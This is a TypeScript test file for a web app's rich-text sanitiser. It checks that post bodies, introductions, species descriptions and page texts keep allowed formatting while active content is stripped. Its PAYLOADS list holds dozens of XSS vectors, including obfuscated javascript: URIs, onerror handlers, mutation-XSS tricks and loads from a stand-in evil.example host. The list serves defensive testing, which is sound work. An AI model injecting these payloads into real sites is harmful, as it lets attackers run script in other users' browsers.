import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { RICH_TEXT_CLEANED, RICH_TEXT_IMAGE_SRC, RICH_TEXT_MAX_LENGTH } from '@domain/rich-text.ts';
import { startTestApp, type TestApp } from './harness.ts';

/**
 * Every rich-text field (post bodies, entity and profile introductions, species descriptions)
 * through its real GraphQL mutation and its REST route where one exists: what is stored and what
 * is answered holds no active content, the allowed formatting survives, and a save that lost
 * something says so (richTextCleaned / notice RICH_TEXT_CLEANED).
 */

const OWN_IMAGE = '/media/files/0123456789abcdef0123456789abcdef/pres';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover="alert(1)">click</p>',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">hex entities</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href=" javascript:alert(1)">space</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/track.png">',
  '<img src="//evil.example/track.png">',
  `<img src="${OWN_IMAGE}/../../../api/logout">`,
  `<img src="${OWN_IMAGE}" onerror="alert(1)" style="position:fixed" class="img-50 overlay">`,
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">math</maction></math>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<form action="javascript:alert(1)"><input type="submit" formaction="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<div><p>nested <a href="https://ok.example" onclick="alert(1)">ok</a></p></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<h2 id="x" data-x="1" onfocus="alert(1)" tabindex="1" autofocus>heading</h2>',
  '<template><img src=x onerror=alert(1)></template>',
  '<blockquote cite="javascript:alert(1)">quote</blockquote>',
];

/** What the one allowlist lets through: tags, their attributes, and the checks of their values. */
const ALLOWED: Record<string, Record<string, (value: string) => boolean>> = Object.fromEntries(
  ['h2', 'h3', 'h4', 'p', 'br', 'b', 'strong', 'i', 'em', 'u', 's', 'strike', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'figure', 'figcaption'].map((tag) => [
    tag,
    {},
  ]),
);
ALLOWED.a = {
  href: (value) => /^(https?:\/\/|mailto:)/i.test(value),
  title: () => true,
  rel: (value) => value === 'nofollow noopener noreferrer',
  target: (value) => value === '_blank',
};
ALLOWED.img = { src: (value) => RICH_TEXT_IMAGE_SRC.test(value), alt: () => true, class: (value) => /^img-(100|50|33|25)$/.test(value) };

/** Fails unless every tag and attribute of the HTML is on the allowlist with a safe value. */
function expectInert(html: string, where: string): void {
  for (const [, closing, tag, attributes] of html.matchAll(/<(\/?)([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const allowed = ALLOWED[tag!.toLowerCase()];
    expect(allowed, `${where}: tag <${tag}> in ${html}`).toBeDefined();
    for (const [, name, value] of attributes!.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
      const check = allowed![name!.toLowerCase()];
      expect(check, `${where}: attribute ${name} on <${tag}> in ${html}`).toBeDefined();
      expect(check!(value ?? ''), `${where}: ${name}="${value}" in ${html}`).toBe(true);
    }
    if (tag === 'a' && !closing)
      expect(attributes, `${where}: a link without rel/target in ${html}`).toMatch(
        /rel="nofollow noopener noreferrer" target="_blank"|target="_blank" rel="nofollow noopener noreferrer"/,
      );
  }
  // No text that a browser would read back as markup: every < of the text is escaped.
  expect(html.replace(/<\/?[a-zA-Z][^>]*>/g, '')).not.toMatch(/</);
}

/** What the editor makes: kept exactly as sent, and no notice. */
const FORMATTED =
  '<h2>Lepkék</h2><p>Szia <strong>világ</strong>, <em>dőlt</em>, <u>aláhúzott</u>, <s>áthúzott</s> ❤️ 🦋</p>' +
  '<ul><li><p>egy</p></li><li><p>kettő</p></li></ul><ol><li><p>első</p></li></ol><blockquote><p>idézet</p></blockquote>' +
  '<h3>Kép</h3><p><a href="https://lepke.hu/info" rel="nofollow noopener noreferrer" target="_blank">link</a> <a href="mailto:info@lepke.hu" rel="nofollow noopener noreferrer" target="_blank">levél</a></p>' +
  `<img src="${OWN_IMAGE}" alt="fecskefarkú" class="img-33" /><h4>Vége</h4>`;

const TOO_LONG = `<p>${'a'.repeat(RICH_TEXT_MAX_LENGTH)}</p>`;

let t: TestApp;
let user: { cookie: string; entityId: number };
let admin: string;

// Tests read whatever shape their query selected.
// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Result = any;

async function gql(query: string, variables: Record<string, unknown>, cookie: string): Promise<Result> {
  const reply = await t.gql(query, variables, { cookie });
  expect(reply.status, JSON.stringify(reply.body)).toBe(200);
  expect(reply.body.errors, JSON.stringify(reply.body.errors)).toBeUndefined();
  return Object.values(reply.body.data)[0];
}

/** One rich-text field: how to save it (GraphQL and REST) and how to read what was stored. */
interface Field {
  name: string;
  /** saves the HTML through GraphQL: the stored HTML as answered, and the notice flag */
  graphql(html: string): Promise<{ typename: string; html?: string; cleaned?: boolean; fields?: { field: string; code: string }[] }>;
  /** saves it through REST, where a route exists */
  rest?(html: string): Promise<{ status: number; html?: string; notice?: string; errorCode?: string }>;
  /** the HTML as stored in the database */
  stored(): Promise<string>;
}

const CREATE_POST = `mutation ($input: CreatePostInput!) { createPost(input: $input) { __typename
  ... on CreatePostPayload { richTextCleaned post { recId body } } ... on ValidationError { fields { field code } } ... on Error { code } } }`;
const UPDATE_POST = `mutation ($input: UpdatePostInput!) { updatePost(input: $input) { __typename
  ... on UpdatePostPayload { richTextCleaned post { recId body } } ... on ValidationError { fields { field code } } ... on Error { code } } }`;
const UPDATE_ENTITY = `mutation ($input: UpdateEntityInput!) { updateEntity(input: $input) { __typename
  ... on EntityPayload { richTextCleaned entity { description } } ... on ValidationError { fields { field code } } ... on Error { code } } }`;
const CREATE_ENTITY = `mutation ($input: CreateEntityInput!) { createEntity(input: $input) { __typename
  ... on EntityPayload { richTextCleaned entity { recId description } } ... on ValidationError { fields { field code } } ... on Error { code } } }`;
const UPDATE_PROFILE = `mutation ($input: UpdateProfileInput!) { updateProfile(input: $input) { __typename
  ... on UpdateProfilePayload { richTextCleaned profile { introduction } entity { description } } ... on ValidationError { fields { field code } } ... on Error { code } } }`;
const SAVE_SPECIES = `mutation ($input: SaveSpeciesInput!) { saveSpecies(input: $input) { __typename
  ... on SaveSpeciesPayload { richTextCleaned species { recId description } } ... on ValidationError { fields { field code } } ... on Error { code } } }`;

const CREATE_ARTICLE = `mutation ($input: CreateArticleInput!) { createArticle(input: $input) { __typename
  ... on ArticlePayload { richTextCleaned article { recId description } } ... on ValidationError { fields { field code } } ... on Error { code } } }`;

const SPECIES = { genus: 'Sanitia', species: 'probata', author: '(Tester, 2026)', family: 'Zygaenidae', group: 'moth' };

let postId = 0;
let postKey = '';
let groupId = 0;
let speciesId = 0;
let lastCreatedPost = 0;
let lastCreatedGroup = 0;
let lastStory = 0;
let pageId = 0;

/** Each field's answer as the test reads it. */
const answer = (payload: Result, html: string | undefined, cleaned: boolean | undefined) => ({
  typename: payload.__typename as string,
  html,
  cleaned,
  fields: payload.fields,
});

const FIELDS: Field[] = [
  {
    name: 'a new post body',
    async graphql(html) {
      const result = await gql(CREATE_POST, { input: { type: 'NOTE', title: 'Cím', body: `<p>Bevezető szöveg</p>${html}` } }, user.cookie);
      if (result.post) lastCreatedPost = result.post.recId;
      return answer(result, result.post?.body, result.richTextCleaned);
    },
    async rest(html) {
      const reply = await t.rest('POST', '/api/post', { cookie: user.cookie, body: { type: 'note', title: 'Cím', body: `<p>Bevezető szöveg</p>${html}` } });
      if (reply.status === 200) lastCreatedPost = reply.body.setData.post_id;
      return { status: reply.status, html: reply.body.data?.body, notice: reply.body.notice, errorCode: reply.body.error_code };
    },
    stored: async () => (await t.db.prisma.post.findUniqueOrThrow({ where: { id: lastCreatedPost } })).body,
  },
  {
    name: 'an edited post body',
    async graphql(html) {
      const result = await gql(UPDATE_POST, { input: { id: postKey, body: `<p>Bevezető szöveg</p>${html}` } }, user.cookie);
      return answer(result, result.post?.body, result.richTextCleaned);
    },
    async rest(html) {
      const reply = await t.rest('PATCH', `/api/post/${postId}`, { cookie: user.cookie, body: { body: `<p>Bevezető szöveg</p>${html}` } });
      return { status: reply.status, html: reply.body.data?.body, notice: reply.body.notice, errorCode: reply.body.error_code };
    },
    stored: async () => (await t.db.prisma.post.findUniqueOrThrow({ where: { id: postId } })).body,
  },
  {
    name: "a new group's introduction",
    async graphql(html) {
      const result = await gql(CREATE_ENTITY, { input: { type: 2, displayName: 'Csoport', description: html } }, user.cookie);
      if (result.entity) lastCreatedGroup = result.entity.recId;
      return answer(result, result.entity?.description, result.richTextCleaned);
    },
    stored: async () => (await t.db.prisma.entity.findUniqueOrThrow({ where: { id: lastCreatedGroup } })).description,
  },
  {
    name: "an edited group's introduction",
    async graphql(html) {
      const entity = Buffer.from(`Entity:${groupId}`).toString('base64');
      const result = await gql(UPDATE_ENTITY, { input: { entity, description: html } }, user.cookie);
      return answer(result, result.entity?.description, result.richTextCleaned);
    },
    stored: async () => (await t.db.prisma.entity.findUniqueOrThrow({ where: { id: groupId } })).description,
  },
  {
    name: "a person's introduction",
    async graphql(html) {
      const result = await gql(UPDATE_PROFILE, { input: { introduction: html } }, user.cookie);
      if (result.profile) expect(result.profile.introduction).toBe(result.entity.description);
      return answer(result, result.profile?.introduction, result.richTextCleaned);
    },
    async rest(html) {
      const reply = await t.rest('POST', '/api/profile/me', { cookie: user.cookie, body: { introduction: html } });
      return { status: reply.status, html: reply.body.data?.introduction, notice: reply.body.notice, errorCode: reply.body.error_code };
    },
    stored: async () => (await t.db.prisma.entity.findUniqueOrThrow({ where: { id: user.entityId } })).description,
  },
  {
    name: 'a species description',
    async graphql(html) {
      const id = Buffer.from(`Species:${speciesId}`).toString('base64');
      const result = await gql(SAVE_SPECIES, { input: { id, ...SPECIES, description: html } }, admin);
      return answer(result, result.species?.description, result.richTextCleaned);
    },
    async rest(html) {
      const { genus, species, author: dauthor, family, group } = SPECIES;
      const reply = await t.rest('PUT', `/api/species/${speciesId}`, { cookie: admin, body: { genus, species, dauthor, family, group, description: html } });
      return { status: reply.status, html: reply.body.data?.description, notice: reply.body.notice, errorCode: reply.body.error_code };
    },
    stored: async () => (await t.db.prisma.species.findUniqueOrThrow({ where: { id: speciesId } })).description,
  },
  {
    name: "a story's text",
    async graphql(html) {
      const result = await gql(CREATE_ARTICLE, { input: { kind: 'STORY', title: 'Történet', description: html } }, user.cookie);
      if (result.article) lastStory = result.article.recId;
      return answer(result, result.article?.description, result.richTextCleaned);
    },
    stored: async () => (await t.db.prisma.article.findUniqueOrThrow({ where: { id: lastStory } })).description,
  },
  {
    name: "a content page's text",
    async graphql(html) {
      const result = await gql(
        `mutation ($input: UpdateArticleInput!) { updateArticle(input: $input) { __typename
          ... on ArticlePayload { richTextCleaned article { description } } ... on ValidationError { fields { field code } } ... on Error { code } } }`,
        { input: { id: Buffer.from(`Article:${pageId}`).toString('base64'), description: html } },
        admin,
      );
      return answer(result, result.article?.description, result.richTextCleaned);
    },
    async rest(html) {
      const reply = await t.rest('PUT', `/api/admin/content/${pageId}`, { cookie: admin, body: { description: html } });
      return { status: reply.status, html: reply.body.data?.description, notice: reply.body.notice, errorCode: reply.body.error_code };
    },
    stored: async () => (await t.db.prisma.article.findUniqueOrThrow({ where: { id: pageId } })).description,
  },
];

beforeAll(async () => {
  t = await startTestApp();
  user = await t.register('Író');
  const adminAccount = await t.register('Kurátor');
  await t.db.prisma.user.update({ where: { entityId: adminAccount.entityId }, data: { role: 'ADMIN' } });
  admin = adminAccount.cookie;
  const post = await gql(CREATE_POST, { input: { type: 'NOTE', title: 'Cím', body: '<p>Az első szöveg</p>' } }, user.cookie);
  postId = post.post.recId;
  postKey = Buffer.from(`Post:${postId}`).toString('base64');
  const group = await gql(CREATE_ENTITY, { input: { type: 2, displayName: 'Lepkészek' } }, user.cookie);
  groupId = group.entity.recId;
  const species = await gql(SAVE_SPECIES, { input: SPECIES }, admin);
  speciesId = species.species.recId;
  const page = await t.rest('POST', '/api/admin/content', { cookie: admin, body: { identifier: 'sanitising', category: 'faq', language: 'en', title: 'Sanitising' } });
  pageId = page.body.data.id;
});

afterAll(() => t?.close());

describe.each(FIELDS)('$name', (field) => {
  test('keeps the editor’s formatting as sent, with no notice', async () => {
    const saved = await field.graphql(FORMATTED);
    expect(saved.cleaned).toBe(false);
    expect(saved.html).toContain(FORMATTED);
    expect(await field.stored()).toContain(FORMATTED);
    if (field.rest) {
      const reply = await field.rest(FORMATTED);
      expect([reply.status, reply.notice]).toEqual([200, undefined]);
      expect(reply.html).toContain(FORMATTED);
    }
  });

  test('stores and answers no active content from any payload, and says it cleaned', async () => {
    for (const payload of PAYLOADS) {
      const saved = await field.graphql(`<p>Előtte</p>${payload}<p>Utána</p>`);
      expect(saved.typename, payload).not.toMatch(/Error/);
      expect(saved.cleaned, payload).toBe(true);
      expectInert(saved.html!, `${field.name} (GraphQL) ${payload}`);
      const stored = await field.stored();
      expectInert(stored, `${field.name} (stored) ${payload}`);
      expect(stored).toContain('<p>Előtte</p>');
      expect(stored).toContain('<p>Utána</p>');
      if (field.rest) {
        const reply = await field.rest(`<p>Előtte</p>${payload}<p>Utána</p>`);
        expect([reply.status, reply.notice], payload).toEqual([200, RICH_TEXT_CLEANED]);
        expectInert(reply.html!, `${field.name} (REST) ${payload}`);
        expectInert(await field.stored(), `${field.name} (stored via REST) ${payload}`);
      }
    }
  });

  test('over the size limit is DATA_TOO_LONG (422 over REST), and nothing is stored', async () => {
    await field.graphql('<p>Marad</p>');
    const before = await field.stored();
    const saved = await field.graphql(TOO_LONG);
    expect(saved.typename).toBe('ValidationError');
    expect(saved.fields?.map((problem) => problem.code)).toContain('DATA_TOO_LONG');
    if (field.rest) {
      const reply = await field.rest(TOO_LONG);
      expect([reply.status, reply.errorCode]).toEqual([422, 'VALIDATION_ERROR']);
    }
    expect(await field.stored()).toBe(before);
  });
});

test('a safe link keeps its address and is made to open apart, whatever rel and target it came with', async () => {
  const saved = await FIELDS[1]!.graphql('<p><a href="https://lepke.hu/a?b=1&amp;c=2" title="Lepke" target="_self" rel="opener">lepke</a></p>');
  expect(saved.cleaned).toBe(false);
  expect(saved.html).toContain('<a href="https://lepke.hu/a?b=1&amp;c=2" title="Lepke" target="_blank" rel="nofollow noopener noreferrer">lepke</a>');
});

test('an HTML comment is dropped, and what it hid stays hidden', async () => {
  const saved = await FIELDS[1]!.graphql('<p>Látszik</p><!--<img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->');
  expect(saved.html).toBe('<p>Bevezető szöveg</p><p>Látszik</p>');
});
